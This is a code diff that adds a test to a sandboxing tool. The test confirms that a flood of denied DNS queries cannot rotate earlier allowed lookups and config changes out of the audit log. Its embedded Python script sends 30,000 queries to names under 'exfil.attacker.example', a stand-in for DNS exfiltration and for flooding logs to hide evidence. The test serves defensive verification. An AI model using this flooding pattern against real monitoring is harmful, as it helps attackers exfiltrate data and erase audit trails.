@@ -172,3 +172,43 @@ describe('a worker thread exits', () => {
     await main.close()
   })
 })
+
+describe('flushing the audit log with denials', () => {
+  it('a flood of denied DNS queries from inside does not rotate away an earlier allowed lookup or config change', async () => {
+    // 30 000 distinct denied names, about 4.5 MB of events written one by one: over twice what
+    // a 1 MiB log and one rotated file hold (as 30 s of a 6 MB/s flood is to the default 2 × 64 MiB).
+    const sandbox = await getOrCreateSandbox('dns-flood', {
+      audit: { maxBytes: 1 << 20, keep: 1 },
+      egress: [{ access: 'allow', host: 'allowed.example' }],
+    })
+    const script = `import socket,struct
+def q(i,name):
+    return struct.pack(">HHHHHH",i&0xffff,0x0100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in name.split("."))+b"\\0"+struct.pack(">HH",1,1)
+u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);u.settimeout(2)
+u.sendto(q(1,"allowed.example"),("127.0.0.1",53));print("allowed",u.recv(512)[3]&15)
+u.settimeout(1)
+answered=0
+for b in range(300):
+    for i in range(b*100,b*100+100): u.sendto(q(i,"%d.exfil.attacker.example"%i),("127.0.0.1",53))
+    try:
+        for _ in range(100): u.recv(512); answered+=1
+    except socket.timeout: pass
+print("sent",answered>25000)
+`
+    const run = await sandbox.exec(['/usr/bin/python3', '-c', script])
+    expect(run.stdout, run.stderr).toBe('allowed 0\nsent True\n')
+    await sandbox.close()
+    const dir = join(home.dir, 'sandboxes', 'dns-flood')
+    const events = ['audit.jsonl.1', 'audit.jsonl']
+      .filter((f) => existsSync(join(dir, f)))
+      .flatMap((f) => readFileSync(join(dir, f), 'utf8').trim().split('\n'))
+      .map((line) => JSON.parse(line))
+    expect(events).toContainEqual(expect.objectContaining({ type: 'dns.query', name: 'allowed.example', access: 'allowed' }))
+    expect(events).toContainEqual(expect.objectContaining({ type: 'config.applied' }))
+    const denials = events
+      .filter((e) => (e.type === 'dns.query' && e.access === 'denied') || e.type === 'events.suppressed')
+      .reduce((n, e) => n + (e.count ?? 1), 0)
+    expect(denials).toBeGreaterThan(25_000)
+    expect(events.some((e) => e.type === 'events.suppressed')).toBe(true)
+  })
+})
